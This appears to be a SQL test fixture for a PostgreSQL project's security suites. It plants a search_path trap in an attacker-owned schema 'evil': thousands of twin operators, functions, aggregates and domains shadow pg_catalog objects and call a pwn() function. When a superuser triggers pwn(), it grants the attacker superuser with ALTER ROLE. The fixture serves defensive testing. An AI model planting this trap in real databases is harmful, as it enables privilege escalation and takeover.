-- The search_path trap of the security suites. sql/security.sql includes it with \i (pg_regress runs from the
-- project root); tests/e2e/test_security.py reads it and plants it in another schema by replacing "evil.". Run as the
-- attacker, in schema evil, which the attacker owns. pwn() records the role that ran it (a row, undone if that
-- transaction rolls back, and a sequence value, which is not) and makes the attacker a superuser when it runs as one.
-- Every pg_catalog operator and function whose types are concrete gets a twin in evil that calls pwn() and then the
-- original; so do count(*), argument pairs that pg_catalog matches only through a cast, and type names that are not
-- keywords (as domains).
CREATE TABLE evil.pwned (who name, what text);
CREATE SEQUENCE evil.hits;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT INSERT, SELECT ON evil.pwned TO PUBLIC;
GRANT USAGE, SELECT ON SEQUENCE evil.hits TO PUBLIC;
CREATE FUNCTION evil.pwn(what text) RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog AS $fn$
BEGIN
    PERFORM pg_catalog.nextval('evil.hits');
    INSERT INTO evil.pwned VALUES (current_user, what);
    RAISE WARNING 'PWNED by % as %', what, current_user;
    IF EXISTS (SELECT 1 FROM pg_catalog.pg_roles r
               WHERE r.rolname OPERATOR(pg_catalog.=) current_user AND r.rolsuper) THEN
        -- The attacker is whoever planted the trap: the owner of this function.
        EXECUTE pg_catalog.format('ALTER ROLE %s SUPERUSER',
                                  (SELECT p.proowner::pg_catalog.regrole FROM pg_catalog.pg_proc p
                                   WHERE p.oid OPERATOR(pg_catalog.=) 'evil.pwn(text)'::pg_catalog.regprocedure));
    END IF;
    RETURN true;
END
$fn$;
SET client_min_messages = error;
DO $plant$
DECLARE
    o      record;
    n      integer := 0;
    twin   text;
    made   integer := 0;
BEGIN
    FOR o IN
        SELECT op.oprname, op.oprkind, op.oprleft::regtype AS l, op.oprright::regtype AS r,
               op.oprresult::regtype AS res, p.proname
        FROM pg_catalog.pg_operator op JOIN pg_catalog.pg_proc p ON p.oid = op.oprcode
        WHERE op.oprnamespace = 'pg_catalog'::regnamespace
          AND (op.oprleft = 0 OR (SELECT typtype FROM pg_type WHERE oid = op.oprleft) NOT IN ('p'))
          AND (SELECT typtype FROM pg_type WHERE oid = op.oprright) NOT IN ('p')
          AND (SELECT typtype FROM pg_type WHERE oid = op.oprresult) NOT IN ('p')
          AND op.oprleft <> 'internal'::regtype
    LOOP
        n := n + 1;
        twin := format('evil.op_twin_%s', n);
        BEGIN
            IF o.oprkind = 'b' THEN
                EXECUTE format('CREATE FUNCTION %s(%s, %s) RETURNS %s LANGUAGE sql AS %L', twin, o.l, o.r, o.res,
                               format('SELECT CASE WHEN evil.pwn(%L) THEN pg_catalog.%I($1, $2) END',
                                      format('operator %s(%s, %s)', o.oprname, o.l, o.r), o.proname));
                EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                               o.oprname, o.l, o.r, twin);
            ELSE
                EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE sql AS %L', twin, o.r, o.res,
                               format('SELECT CASE WHEN evil.pwn(%L) THEN pg_catalog.%I($1) END',
                                      format('operator %s(%s)', o.oprname, o.r), o.proname));
                EXECUTE format('CREATE OPERATOR evil.%s (RIGHTARG = %s, FUNCTION = %s)', o.oprname, o.r, twin);
            END IF;
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    FOR o IN
        SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS args,
               p.prorettype::regtype AS res, p.pronargs, p.proretset
        FROM pg_catalog.pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0
          AND (SELECT typtype FROM pg_type WHERE oid = p.prorettype) NOT IN ('p')
          AND NOT EXISTS (SELECT 1 FROM unnest(p.proargtypes::oid[]) t(oid)
                          JOIN pg_type ty ON ty.oid = t.oid WHERE ty.typtype = 'p')
          AND p.pronargs <= 4
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s%s LANGUAGE sql AS %L', o.proname, o.args,
                           CASE WHEN o.proretset THEN 'SETOF ' ELSE '' END, o.res,
                           format('SELECT CASE WHEN evil.pwn(%L) THEN pg_catalog.%I(%s) END',
                                  format('function %s(%s)', o.proname, o.args), o.proname,
                                  (SELECT coalesce(string_agg('$' || i, ', '), '')
                                   FROM generate_series(1, o.pronargs) i)));
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    -- Aggregates a client query would call unqualified.
    CREATE FUNCTION evil.count_step(bigint) RETURNS bigint LANGUAGE sql
        AS $f$ SELECT CASE WHEN evil.pwn('aggregate count(*)') THEN $1 OPERATOR(pg_catalog.+) 1 END $f$;
    CREATE AGGREGATE evil.count(*) (SFUNC = evil.count_step, STYPE = bigint, INITCOND = '0');
    -- Argument pairs that pg_catalog matches only through a cast: an exact match wins even behind pg_catalog.
    CREATE FUNCTION evil.cat_names(name, name) RETURNS text LANGUAGE sql
        AS $f$ SELECT CASE WHEN evil.pwn('operator ||(name, name)') THEN $1::pg_catalog.text OPERATOR(pg_catalog.||) $2::pg_catalog.text END $f$;
    CREATE OPERATOR evil.|| (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.cat_names);
    CREATE FUNCTION evil.oid_is_class(oid, regclass) RETURNS boolean LANGUAGE sql
        AS $f$ SELECT CASE WHEN evil.pwn('operator =(oid, regclass)') THEN $1 OPERATOR(pg_catalog.=) $2::pg_catalog.oid END $f$;
    CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = evil.oid_is_class);
    -- Type names that are not SQL keywords resolve on the path too: a cast to "jsonb" would be a cast to this
    -- domain, whose check runs the trap.
    CREATE DOMAIN evil.jsonb AS pg_catalog.jsonb CHECK (evil.pwn('type jsonb'));
    CREATE DOMAIN evil.json AS pg_catalog.json CHECK (evil.pwn('type json'));
    CREATE DOMAIN evil.text AS pg_catalog.text CHECK (evil.pwn('type text'));
    CREATE DOMAIN evil.name AS pg_catalog.name CHECK (evil.pwn('type name'));
    CREATE DOMAIN evil.regclass AS pg_catalog.regclass CHECK (evil.pwn('type regclass'));
    IF made < 2000 THEN
        RAISE EXCEPTION 'the trap is too small: % twins', made;
    END IF;
END
$plant$;
